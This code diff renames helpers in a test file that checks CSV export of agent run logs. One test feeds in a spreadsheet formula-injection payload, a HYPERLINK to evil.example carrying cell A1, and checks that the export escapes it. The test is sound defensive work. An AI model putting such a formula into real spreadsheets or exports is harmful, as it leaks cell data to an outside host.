@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { agents } from '#contract/agents/agents.ts'
 import { json } from '#server/db/database.ts'
 import { engines } from '#tests/engines.ts'
-import { type Actor, type TestApp, testApp } from '#tests/test-app.ts'
+import { type Actor, createTestApp, type TestApp } from '#tests/test-app.ts'
 
 function readCsv(text: string): string[][] {
   const rows: string[][] = []
@@ -23,7 +23,7 @@ describe.each(engines)('exporting logs on %s', (engine) => {
   let app: TestApp
   let ada: Actor
   beforeAll(async () => {
-    app = await testApp(engine, { modelRuntime: { sleep: async () => {} } })
+    app = await createTestApp(engine, { modelRuntime: { sleep: async () => {} } })
     ada = await app.as('ada')
     await ada.call(agents.create, { body: { name: 'Lamp, "Lighter"', slug: 'lamp', purpose: 'p' } })
   })
@@ -36,7 +36,7 @@ describe.each(engines)('exporting logs on %s', (engine) => {
     const records = rows.map((row) => Object.fromEntries(row.map((value, index) => [names[index], value])))
     return { response, text, records }
   }
-  const ask = (input: string) => ada.call(agents.run, { body: { agentId: 'lamp', input } })
+  const runAgent = (input: string) => ada.call(agents.run, { body: { agentId: 'lamp', input } })
 
   it('exports only column names before the first run', async () => {
     const { response, records, text } = await download()
@@ -51,7 +51,7 @@ describe.each(engines)('exporting logs on %s', (engine) => {
     const hostile = '=HYPERLINK("https://evil.example/?q="&A1,"see")'
     for (const input of [hostile, 'two\nlines, and "quotes"', '-2+3']) {
       app.passTime(1000)
-      await ask(input)
+      await runAgent(input)
     }
     const { records, text } = await download()
     expect(records.map((record) => record.input)).toEqual(["'-2+3", 'two\nlines, and "quotes"', `'${hostile}`])
